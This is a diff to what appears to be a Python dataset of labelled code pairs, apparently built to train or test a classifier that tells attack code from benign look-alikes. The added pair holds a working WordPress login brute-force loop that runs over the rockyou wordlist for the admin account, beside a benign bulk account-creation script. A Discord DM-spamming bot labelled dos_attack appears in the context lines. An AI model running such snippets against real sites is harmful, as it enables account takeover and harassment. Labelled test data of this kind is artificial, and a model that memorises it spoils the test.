@@ -467,6 +467,13 @@ PAIRS = [
      "            pass",
      "import msoffcrypto, getpass\ndoc = msoffcrypto.OfficeFile(open('book.xlsx', 'rb'))\n"
      "doc.load_key(getpass.getpass('workbook password: '))\ndoc.decrypt(open('plain.xlsx', 'wb'))"),
+    ("password trial: a login form posted per word; accounts created per row with an initial password",
+     "password_cracking",
+     "import requests\nfor pw in open('rockyou.txt', errors='ignore'):\n"
+     "    r = requests.post('http://10.10.10.5/wp-login.php', data={'log': 'admin', 'pwd': pw.strip()})\n"
+     "    if 'dashboard' in r.url:\n        print('found', pw); break",
+     "import requests\nfor line in open('staff.csv'):\n    user, pw = line.strip().split(',')\n"
+     "    requests.post('https://lms.example.edu/api/users', json={'name': user, 'initial_password': pw}, headers=H)"),
     ("message storm: a DM channel opened and spammed; an agent client streaming the answers to one request",
      "dos_attack",
      "import discord\nbot = discord.Client(intents=discord.Intents.default())\n@bot.event\nasync def on_ready():\n"
